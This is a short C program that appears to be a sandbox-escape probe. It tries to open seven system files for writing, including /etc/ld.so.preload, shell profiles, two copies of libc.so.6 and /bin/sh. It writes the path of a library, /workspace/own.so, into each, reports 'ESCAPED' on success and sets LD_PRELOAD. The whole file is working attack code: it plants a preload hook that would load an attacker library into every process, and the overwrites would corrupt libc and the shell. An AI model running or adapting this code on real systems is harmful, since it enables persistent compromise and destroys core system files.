#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
  const char *paths[] = {"/etc/ld.so.preload", "/etc/ld.so.conf", "/etc/profile", "/etc/bash.bashrc", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/local/lib/libc.so.6", "/bin/sh"};
  for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
    int fd = open(paths[i], O_WRONLY | O_CREAT, 0755);
    if (fd >= 0 && write(fd, "/workspace/own.so\n", 18) > 0) printf("ESCAPED: wrote %s\n", paths[i]);
  }
  setenv("LD_PRELOAD", "/workspace/own.so", 1);
  return 5;
}
